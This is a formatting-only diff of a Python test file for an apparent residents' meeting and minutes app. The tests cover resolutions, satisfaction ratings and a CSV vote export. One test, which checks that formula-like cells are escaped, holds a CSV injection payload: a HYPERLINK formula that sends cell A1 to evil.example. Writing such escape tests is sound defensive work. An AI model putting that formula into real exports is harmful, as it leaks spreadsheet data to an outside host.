@@ -28,7 +28,9 @@ def voted(world):  # type: ignore[no-untyped-def]
         session=session, by=world.moderator, what="东门划线 20 个夜间车位", responsible="物业公司", due_on=None, resolution_id=resolution_id
     )
     item = session.agenda_items.get()
-    services.minutes_draft_save(session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC)
+    services.minutes_draft_save(
+        session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC
+    )
     return services.minutes_publish(session=session, by=world.moderator)
 
 
@@ -112,7 +114,7 @@ def test_the_resolution_shows_the_satisfaction_of_its_action_items(world, voted)
     services.satisfaction_rate(item=item, user=world.resident, score=4)
     services.satisfaction_rate(item=item, user=world.resident2, score=2)
     body = Client().get(f"/minutes/{voted.pk}/").content.decode()
-    section = body[body.index('id="h-resolutions"'):body.index('id="h-actions"')]
+    section = body[body.index('id="h-resolutions"') : body.index('id="h-actions"')]
     assert "满意度 50%（2 人评价，平均 3.0/5 分）" in section
 
 
@@ -131,7 +133,9 @@ def named_vote(world):  # type: ignore[no-untyped-def]
     session = voted_session(world)
     assert {v["name"] for v in session.motions.get().resolution.data["voters"]} == set(NAMES.values())  # voting has them
     item = session.agenda_items.get()
-    services.minutes_draft_save(session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC)
+    services.minutes_draft_save(
+        session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC
+    )
     return services.minutes_publish(session=session, by=world.moderator)
 
 
@@ -196,7 +200,7 @@ def test_csv_cells_that_would_start_a_formula_are_text(world) -> None:  # type: 
     body = _client(world.observer).get(f"/minutes/{record.pk}/votes.csv").content.decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(body)))
     assert len(rows) == 3
-    assert {r["motion"] for r in rows} == {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"}
+    assert {r["motion"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'}
     assert all(r["online"].isdigit() and r["total"].isdigit() for r in rows)  # numbers stay numbers
 
 
